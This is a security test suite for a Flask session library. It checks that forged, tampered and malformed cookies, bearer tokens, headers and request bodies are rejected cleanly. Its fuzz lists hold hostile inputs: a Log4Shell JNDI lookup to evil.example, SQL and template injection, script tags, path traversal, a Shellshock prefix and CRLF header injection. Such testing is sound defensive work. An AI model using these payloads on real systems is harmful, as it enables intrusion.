"""Whatever a stranger sends is answered with a clear 4xx, costs no statement, and takes nobody's session away."""

from __future__ import annotations

import io
import json
import random
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from werkzeug.test import TestResponse

from flask_corbado_session.testing import expire_short, move_clock, signed_in
from flask_corbado_session.tokens.ids import new_id
from flask_corbado_session.tokens.long import LongTokenSigner, first_token
from tests.support.apps import make_app, rows_of, statements
from tests.support.jars import DEVICE, LONG, SHORT
from tests.support.rules import heard
from tests.support.site import cookie_of, look_up_ended
from tests.support.tampering import flipped


def raw(app: Flask, path: str = "/protected", method: str = "GET", **environ: Any) -> TestResponse:
    """A request whose headers are as given, byte for byte."""
    client = app.test_client(use_cookies=False)
    return client.open(path, method=method, environ_overrides=environ)


def is_still_served(app: Flask, client: FlaskClient) -> bool:
    expire_short(client)
    return client.get("/protected").status_code == 200


# ---- cookies


@pytest.fixture
def alice(app: Flask) -> FlaskClient:
    return signed_in(app, "alice")


def tampered(value: str) -> list[str]:
    """The value with each kind of damage, at places all over it."""
    places = sorted({0, 1, len(value) // 4, len(value) // 2, len(value) - 2, len(value) - 1})
    changed = [flipped(value, at) for at in places]
    cut = [value[:at] for at in places] + [value[at:] for at in places[1:]]
    return [*changed, *cut, value + "A", value * 2, value[::-1], value.upper(), value.lower(), value.swapcase()]


ODD = [
    "", "=", "==", ";", "null", "None", "undefined", "true", "0", "-1", "[]", "{}", "''", '""', '"', "\\", "%00",
    "%2e%2e%2f", "../../etc/passwd", "' OR '1'='1", "<script>alert(1)</script>", "${jndi:ldap://evil.example}",
    "{{7*7}}", "\x00", "\x7f", "\x1b[31m", "\xff\xfe", "\xc3\xbc", "\xe2\x80\xae", "\xf0\x9f\xa6\x8a", "a\tb",
    "x" * 176, "x" * 4097, "x" * 60_000, "." * 175, "..", ".".join("abc"), "eyJhbGciOiJub25lIn0.e30.", "gAAAAA", "!",
    "a b", "a,b", "$Version=1", "__Host-",
]  # fmt: skip


@pytest.mark.parametrize("name", [SHORT, LONG, DEVICE])
def test_odd_cookies_are_no_session(app: Flask, alice: FlaskClient, name: str) -> None:
    look_up_ended(app)
    with statements(app) as seen, heard(app) as said:
        for value in ODD:
            answer = raw(app, HTTP_COOKIE=f"{name}={value}")
            assert (answer.status_code, answer.headers.getlist("Set-Cookie")) == (401, []), ascii(value[:50])
    assert (seen, said) == ([], [])
    assert is_still_served(app, alice)


@pytest.mark.parametrize("name", [SHORT, LONG])
def test_tampered_cookies_are_no_session(app: Flask, alice: FlaskClient, name: str) -> None:
    look_up_ended(app)
    with statements(app) as seen, heard(app) as said:
        for value in tampered(cookie_of(alice, name)):
            answer = raw(app, HTTP_COOKIE=f"{name}={value}")
            assert (answer.status_code, answer.headers.getlist("Set-Cookie")) == (401, [])
    assert (seen, said) == ([], [])
    assert is_still_served(app, alice)


def test_one_token_does_not_pass_for_another(app: Flask, alice: FlaskClient) -> None:
    values = {name: cookie_of(alice, name) for name in (SHORT, LONG, DEVICE)}
    look_up_ended(app)
    with statements(app) as seen:
        for name in (SHORT, LONG):
            for value in (values[other] for other in values if other != name):
                assert raw(app, HTTP_COOKIE=f"{name}={value}").status_code == 401
        for value in (values[LONG], values[DEVICE]):
            assert raw(app, HTTP_AUTHORIZATION=f"Bearer {value}").status_code == 401
    assert seen == []


@pytest.mark.parametrize("name", [SHORT, LONG])
@pytest.mark.parametrize("order", [1, -1])
def test_a_good_cookie_beside_bad_ones_of_its_name_serves(
    app: Flask, alice: FlaskClient, name: str, order: int
) -> None:
    """A cookie may come twice, from two paths or domains, in either order (RFC 6265 §5.4)."""
    values = ["", "garbage", "x" * 5000, cookie_of(alice, name), "\xff"][::order]
    answer = raw(app, HTTP_COOKIE="; ".join(f"{name}={value}" for value in values))
    assert answer.status_code == 200


def test_a_stale_long_cookie_beside_the_good_one_does_no_harm(app: Flask, alice: FlaskClient) -> None:
    clock, values = move_clock(app), [cookie_of(alice, LONG)]
    for _ in range(3):
        clock.move(seconds=61)
        expire_short(alice)
        alice.get("/protected")
        values.append(cookie_of(alice, LONG))
    clock.move(seconds=61)
    for order in (1, -1):
        header = "; ".join(f"{LONG}={value}" for value in values[::order])
        assert raw(app, HTTP_COOKIE=header).status_code == 200
    assert rows_of(app).revocation.history("alice") == []


def test_a_nameless_cookie_is_none_of_ours(subtests: pytest.Subtests, app: Flask, alice: FlaskClient) -> None:
    """CVE-2023-23934: ``=__Host-name=value`` was parsed as the cookie ``__Host-name``."""
    headers: list[str] = [
        "={name}={value}",
        "={value}",
        "; ={name}={value}",
        "{name}",
        "{name};{value}",
        " = {name}={value}",
        "{value}",
    ]
    for name in [SHORT, LONG]:
        for header in headers:
            with subtests.test(header=header, name=name):
                look_up_ended(app)
                with statements(app) as seen:
                    answer = raw(app, HTTP_COOKIE=header.format(name=name, value=cookie_of(alice, name)))
                assert (answer.status_code, seen) == (401, [])


def test_a_cookie_of_another_name_is_none_of_ours(subtests: pytest.Subtests, app: Flask, alice: FlaskClient) -> None:
    rows: list[str] = [SHORT.lower(), SHORT.upper(), f" {SHORT}x", "cbo_short_session", "__Secure-cbo_short_session"]
    for name in rows:
        with subtests.test(name=name):
            assert raw(app, HTTP_COOKIE=f"{name}={cookie_of(alice, SHORT)}").status_code == 401


def test_very_many_cookies_cost_no_statement(app: Flask) -> None:
    forged = LongTokenSigner(["the key of somebody else altogether"])
    many = "; ".join(f"{LONG}={forged.dump(first_token(new_id())[0])}" for _ in range(200))
    look_up_ended(app)
    with statements(app) as seen:
        assert raw(app, HTTP_COOKIE=many).status_code == 401
    assert seen == []


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=50)
@given(st.text(st.characters(max_codepoint=255), max_size=300))
def test_any_cookie_header_at_all_is_survived(app: Flask, header: str) -> None:
    for text in (header, f"{SHORT}={header}", f"{LONG}={header}", f"{LONG}{header}"):
        assert raw(app, HTTP_COOKIE=text).status_code == 401


# ---- authorization


BEARERS = [
    "Bearer", "Bearer ", "bearer", "Bearer  ", "Bearer x", "Bearer x.y.z", "Bearer " + "x" * 5000, "Bearer \xff",
    "Bearer a b c", "Bearer =", "Bearer null", "Bearer ..", "Bearer eyJhbGciOiJub25lIn0.e30.", "Bearer \x00",
    'Bearer "x"', "Bearer x\\y", "BEARER x", "bEaReR x",
]  # fmt: skip


def test_a_bad_bearer_is_a_401_of_rfc_6750(app: Flask) -> None:
    look_up_ended(app)
    with statements(app) as seen:
        for header in BEARERS:
            answer = raw(app, HTTP_AUTHORIZATION=header)
            challenge = answer.headers["WWW-Authenticate"]
            assert answer.status_code == 401, ascii(header)
            assert challenge.startswith('Bearer error="invalid_token", error_description="')
            assert (challenge.isascii(), challenge.count('"'), "\\" in challenge) == (True, 4, False)
            assert len(challenge) < 300
    assert seen == []


@pytest.mark.parametrize("issuer", ["https://auth.example.com", "https://müller.example", "https://例え.example"])
def test_what_is_said_of_a_bearer_fits_a_header_whatever_the_issuer(sqlite_url: str, issuer: str) -> None:
    one, _, _ = make_app(sqlite_url, CORBADO_SESSION_ISSUER="https://other.example")
    other, _, _ = make_app(sqlite_url, CORBADO_SESSION_ISSUER=issuer)
    token = cookie_of(signed_in(one, "alice"), SHORT)
    answer = raw(other, HTTP_AUTHORIZATION=f"Bearer {token}")
    assert answer.status_code == 401
    assert answer.get_json()["reason"] == "issuer"
    assert answer.headers["WWW-Authenticate"].isascii()


def test_another_scheme_is_not_ours(subtests: pytest.Subtests, app: Flask, alice: FlaskClient) -> None:
    rows: list[str] = ["Basic YTpi", "Digest x", "Bearerx y", "Bear", "", "\xff", "Token Bearer x", " Bearer x"]
    for header in rows:
        with subtests.test(header=header):
            cookies = f"{SHORT}={cookie_of(alice, SHORT)}"
            assert raw(app, HTTP_AUTHORIZATION=header, HTTP_COOKIE=cookies).status_code == 200


def test_a_token_in_query_or_body_is_no_bearer(app: Flask, alice: FlaskClient) -> None:
    """RFC 6750 §2.2 and §2.3, which RFC 9700 forbids: it would stand in logs, and be sent by a form."""
    token = cookie_of(alice, SHORT)
    stranger = app.test_client()
    assert stranger.get(f"/protected?access_token={token}").status_code == 401
    assert stranger.post("/protected", data={"access_token": token}).status_code == 401


# ---- other headers


USER_AGENTS = [
    "", " ", "\x00", "\x1b[31mred\x1b[0m", "<script>alert(1)</script>", "a\x0bb", "\xff\xfe\xfd", "x" * 10_000,
    "Mozilla/5.0 (\xc3\xbc)", "' OR 1=1 --", "%s%s%n", "{{7*7}}", "${7*7}", "() { :; }; echo", "\x7f\x80\x9f",
]  # fmt: skip


def test_a_hostile_user_agent_is_kept_as_text_and_shown_as_text(database_url: str) -> None:
    app, _, _ = make_app(database_url)
    for number, user_agent in enumerate(USER_AGENTS):
        client, user = app.test_client(), f"user {number}"
        client.post("/sign-in", data={"user": user}, environ_overrides={"HTTP_USER_AGENT": user_agent})
        device = rows_of(app).revocation.devices(user, None)[0]
        assert device.user_agent is None or (device.user_agent.isprintable() and len(device.user_agent) <= 512)
        assert device.label == "Unknown browser"
        page = client.get("/session/devices").text
        assert "<script>" not in page
        assert all(each in "\r\n\t" or each.isprintable() for each in page), ascii(user_agent)


def test_a_hostile_address_is_kept_as_what_fits(database_url: str) -> None:
    app, _, _ = make_app(database_url)
    for address in ["", "x" * 500, "::1%eth0", "\x00\x1b[2J", "192.0.2.1", "2001:db8::" + "f" * 100]:
        client = app.test_client()
        answer = client.post("/sign-in", data={"user": "alice"}, environ_overrides={"REMOTE_ADDR": address})
        assert answer.status_code == 200, ascii(address)
        assert client.get("/session/devices").status_code == 200, ascii(address)


HEADERS = ["HTTP_SEC_FETCH_MODE", "HTTP_REFERER", "HTTP_ACCEPT", "HTTP_ORIGIN", "HTTP_SEC_FETCH_SITE"]
VALUES = ["", "\xff", "\x00", "x" * 9999, "null", "//", "http://[", "a,b", "*/*;q=x", "%00", "://", "\\"]


@pytest.mark.parametrize("name", HEADERS)
def test_a_hostile_header_is_at_most_a_sign_of_a_foreign_page(app: Flask, alice: FlaskClient, name: str) -> None:
    cookies = f"{SHORT}={cookie_of(alice, SHORT)}"
    expected = {200} if name in HEADERS[:3] else {403}
    for value in VALUES:
        assert raw(app, "/protected", "POST", **{name: value}).status_code == 401
        answer = raw(app, "/protected", "POST", HTTP_COOKIE=cookies, **{name: value})
        assert {answer.status_code} == expected, (name, value)


def test_a_foreign_host_header_builds_no_address(sqlite_url: str) -> None:
    app, _, _ = make_app(sqlite_url, CORBADO_SESSION_LOGIN_VIEW="public")
    for host in ["evil.example", "evil.example:80", "localhost.evil.example", "[::1]", "a:b"]:
        answer = raw(app, "/protected", HTTP_HOST=host, HTTP_ACCEPT="text/html")
        assert (answer.status_code, answer.headers["Location"]) == (303, "/public?next=/protected")


def test_no_header_can_be_injected_by_next(subtests: pytest.Subtests, app: Flask, alice: FlaskClient) -> None:
    rows: list[str] = ["/a\r\nSet-Cookie: evil=1", "/a%0d%0aSet-Cookie:%20evil=1", "/a\nX: y", "/\r\n\r\n<html>"]
    for text in rows:
        with subtests.test(text=text):
            answer = alice.post("/session/logout", data={"next": text}, headers={"Sec-Fetch-Mode": "navigate"})
            assert answer.status_code == 303
            assert "evil" not in " ".join(name for name, _ in answer.headers)
            assert "\n" not in answer.headers["Location"]
            assert not any("evil" in value for value in answer.headers.getlist("Set-Cookie"))


# ---- ids and bodies on the routes


IDS = [
    "x", "a" * 29, "a" * 31, "a" * 30, "0" * 30, "a" * 29 + "-", "..", "%00", "%2e%2e%2fetc", "%C3%BC" * 15,
    "' OR 1=1 --", "*", "%25", "null",
]  # fmt: skip
ROUTES = ["/session/{}/revoke", "/session/devices/{}/revoke", "/session/devices/{}/name"]


@pytest.mark.parametrize("route", ROUTES)
def test_an_id_of_nobody_is_a_404(app: Flask, alice: FlaskClient, route: str) -> None:
    answers = [alice.post(route.format(each), data={"name": "x"}).status_code for each in IDS]
    assert answers == [404] * len(IDS)
    assert is_still_served(app, alice)


@pytest.mark.parametrize("route", ROUTES)
def test_another_users_id_is_the_same_404_as_an_unknown_one(app: Flask, alice: FlaskClient, route: str) -> None:
    bob = signed_in(app, "bob")
    device = rows_of(app).revocation.devices("bob", None)[0]
    theirs = device.id if "devices" in route else device.sessions[0].session_id
    answers = [alice.post(route.format(each), data={"name": "x"}) for each in (theirs, new_id())]
    assert [answer.status_code for answer in answers] == [404, 404]
    assert answers[0].get_json() == answers[1].get_json()
    assert answers[0].get_json()["code"] == "not_found"
    assert is_still_served(app, bob)


def test_what_changes_something_is_posted(subtests: pytest.Subtests, app: Flask, alice: FlaskClient) -> None:
    rows: list[str] = ["/logout", "/refresh", "/revoke-others", f"/{'a' * 30}/revoke"]
    for path in rows:
        with subtests.test(path=path):
            methods = ["GET", "HEAD", "PUT", "DELETE", "PATCH"]
            assert [alice.open(f"/session{path}", method=each).status_code for each in methods] == [405] * 5
            assert is_still_served(app, alice)


BODIES: list[dict[str, Any]] = [
    {"json": {"name": 5}},
    {"json": {"name": None}},
    {"json": {"name": ["x"]}},
    {"json": {"name": {"a": 1}}},
    {"json": {"name": True}},
    {"json": []},
    {"json": "name"},
    {"json": 5},
    {"data": b"null", "content_type": "application/json"},
    {"data": b"{", "content_type": "application/json"},
    {"data": b"\xff\xfe", "content_type": "application/json"},
    {"data": b"[" * 60_000, "content_type": "application/json"},
    {"data": b'{"name": ' + b"9" * 5000 + b"}", "content_type": "application/json"},
]


@pytest.mark.parametrize("body", BODIES, ids=lambda body: repr(body)[:40])
def test_a_body_of_another_shape_is_a_400_that_names_the_field(app: Flask, alice: FlaskClient, body: Any) -> None:
    """Flask-Security 5.9: a JSON field that was no text was a 500."""
    device = rows_of(app).revocation.devices("alice", None)[0]
    answer = alice.post(f"/session/devices/{device.id}/name", **body)
    assert answer.status_code == 400
    assert (answer.get_json()["code"], answer.get_json()["field"]) == ("invalid_request", "name")
    assert is_still_served(app, alice)


@pytest.mark.parametrize(
    "body",
    [
        {"data": b"name=%FF%FE", "content_type": "application/x-www-form-urlencoded"},
        {"data": b"%%%", "content_type": "application/x-www-form-urlencoded"},
        {"data": b"--x\r\nbroken", "content_type": "multipart/form-data; boundary=x"},
        {"data": b"x", "content_type": "multipart/form-data"},
        {"data": {"name": (io.BytesIO(b"a file"), "name.txt")}},
        {"data": b"<name/>", "content_type": "text/xml"},
        {"data": b"", "content_type": ""},
    ],
    ids=lambda body: repr(body)[:40],
)
def test_a_body_of_another_type_is_survived(app: Flask, alice: FlaskClient, body: Any) -> None:
    device = rows_of(app).revocation.devices("alice", None)[0]
    assert alice.post(f"/session/devices/{device.id}/name", **body).status_code in (204, 400)
    assert is_still_served(app, alice)


def test_a_since_that_is_no_time_is_a_400(app: Flask) -> None:
    for since in ["", "x", "-1", "1.5", "1e5", "9" * 16, "٣", "0x10", " 1", "null", "1;DROP", "\x00"]:
        answer = app.test_client().get("/session/revocations", query_string={"since": since})
        assert (answer.status_code, answer.get_json()["code"]) == (400, "invalid_request"), ascii(since)


def test_no_answer_to_noise_is_ever_a_500(app: Flask) -> None:
    """Five hundred requests of random make, from a seed that a failure can be repeated with."""
    app.testing = False
    noise = random.Random(20260301)
    alice = signed_in(app, "alice")
    good = [cookie_of(alice, name) for name in (SHORT, LONG, DEVICE)]
    paths = [rule.rule.replace("<", "").replace(">", "") for rule in app.url_map.iter_rules()]
    for number in range(500):
        headers = {}
        for name in noise.sample(
            ["COOKIE", "AUTHORIZATION", "ORIGIN", "SEC_FETCH_SITE", "ACCEPT", "USER_AGENT", "HOST"], 3
        ):
            junk = "".join(chr(noise.randrange(256)) for _ in range(noise.randrange(40)))
            cookie = f"{noise.choice([SHORT, LONG, DEVICE])}={noise.choice([*good, junk])}"
            headers[f"HTTP_{name}"] = (
                cookie if name == "COOKIE" else noise.choice([junk, "Bearer " + junk, "text/html"])
            )
        method = noise.choice(["GET", "POST", "HEAD", "OPTIONS", "PUT", "DELETE", "TRACE", "FOO"])
        path = noise.choice(paths) + noise.choice(["", "/", "?next=" + json.dumps(headers), "?since=x"])
        if path.startswith(("/sign-in", "/sign-out")):
            continue
        with raw(app, path, method, **headers) as answer:
            assert answer.status_code < 500, (number, method, path)
